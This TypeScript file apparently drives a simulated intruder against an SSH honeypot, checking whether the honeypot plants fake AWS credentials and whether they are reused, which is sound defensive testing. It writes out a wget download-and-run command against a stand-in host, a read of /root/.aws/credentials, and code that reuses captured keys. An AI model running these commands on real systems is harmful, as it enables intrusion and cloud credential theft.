import { type Chain, keyOf, type Step } from './chain.ts';
import { enterBySsh } from './play-ssh.ts';
import { answerWithin, type Caller, type Door } from './played.ts';

/** Grave, and looking for cloud keys: what the shipped policy answers with AWS credentials. Nothing can be fetched there. */
const firstLines = ['cd /tmp; wget -q http://192.0.2.66/kits/again.sh; chmod +x again.sh; ./again.sh'];
const askLine = 'cat /root/.aws/credentials';
const client = 'OpenSSH_9.6p1 Ubuntu-3ubuntu13.5';
const lookAgainMs = 250;

export interface SpyParts {
  readonly door: Door;
  readonly login: { readonly username: string; readonly password: string };
  readonly chain: Chain;
  readonly now: () => number;
  readonly sleep: (ms: number) => Promise<void>;
  readonly patienceMs: number;
  readonly signal: AbortSignal;
}

/**
 * A visitor for whom a lure is planted: does something grave, asks for cloud keys, waits for them to appear, reads them,
 * and uses them in a second visit.
 */
export async function playSpy(parts: SpyParts): Promise<readonly Step[]> {
  const { door, login, chain, now, signal } = parts;
  const reader = await enterBySsh(door, { client, logins: [login] }, signal);
  try {
    if (!reader.shell) return [broken('decided', 'a login', `${login.username} was not let in`)];
    for (const line of firstLines) await answerWithin(reader.shell.type(line));
    const askedMs = now();
    const early = secretIn(await answerWithin(reader.shell.type(askLine)));
    const session = await findSession(chain, { ...door, ...reader });
    if (typeof session !== 'string') return [session];
    const decided = await chain.decided(session, askedMs);
    if (!decided.ok) return [decided];
    const adapted = await chain.adapted(session, askedMs);
    const read = early ?? (await readAgain(parts, reader.shell.type, adapted.ok));
    const readStep = step('read', 'a key in /root/.aws/credentials', read === null ? 'no key' : `${read.id} …`, {
      ok: read !== null,
      tookMs: now() - askedMs,
    });
    if (read === null) return [decided, adapted, readStep];
    return [decided, adapted, readStep, await useSecret(parts, read)];
  } finally {
    await reader.leave();
  }
}

export interface ReadSecret {
  readonly id: string;
  readonly secret: string;
}

/** In the open session first; where a honeypot shows a change to new visitors only, in a new one. */
async function readAgain(
  { door, login, signal, now, sleep, patienceMs }: SpyParts,
  type: (line: string) => Promise<string>,
  isPlanted: boolean,
): Promise<ReadSecret | null> {
  const deadline = now() + (isPlanted ? patienceMs : 0);
  for (;;) {
    const here = secretIn(await answerWithin(type(askLine)).catch(() => ''));
    if (here) return here;
    const again = await enterBySsh(door, { client, logins: [login] }, signal);
    const there = again.shell ? secretIn(await answerWithin(again.shell.type(askLine))) : null;
    await again.leave();
    if (there || now() >= deadline) return there;
    await sleep(lookAgainMs);
  }
}

/** As an intruder does who tries what he found: as a login, and with the cloud's own client. */
async function useSecret({ door, login, chain, now, signal }: SpyParts, { id, secret }: ReadSecret): Promise<Step> {
  const user = await enterBySsh(door, { client, logins: [{ ...login, password: secret }, login] }, signal);
  const usedMs = now();
  if (user.shell) await answerWithin(user.shell.type(`aws configure set aws_access_key_id ${id}`));
  await user.leave();
  const session = await findSession(chain, { ...door, ...user });
  return typeof session === 'string' ? await chain.touched(session, usedMs) : session;
}

/** The honeypot's own lines are data: only what has the form of a key is typed again. */
export function secretIn(text: string): ReadSecret | null {
  const id = /\b(AKIA[A-Z0-9]{16})\b/.exec(text)?.[1];
  // No \b at the end: one in 32 secrets ends with + or /.
  const secret = /aws_secret_access_key\s*=\s*([A-Za-z0-9/+=]{40})(?![\w/+=])/.exec(text)?.[1];
  return id !== undefined && secret !== undefined ? { id, secret } : null;
}

async function findSession(chain: Chain, caller: Caller): Promise<string | Step> {
  let session: string | undefined;
  const seen = await chain.await('seen', 'the session of the visitor who looks for keys', 0, async () => {
    session = (await chain.findSessions([caller])).get(keyOf(caller));
    return { done: session !== undefined, came: session ?? 'no session' };
  });
  return session ?? { ...seen, tookMs: 0 };
}

function broken(name: string, expected: string, came: string): Step {
  return step(name, expected, came, { ok: false, tookMs: 0 });
}

function step(name: string, expected: string, came: string, rest: { ok: boolean; tookMs: number }): Step {
  return { step: name, expected, came, ok: rest.ok, tookMs: Math.round(rest.tookMs) };
}
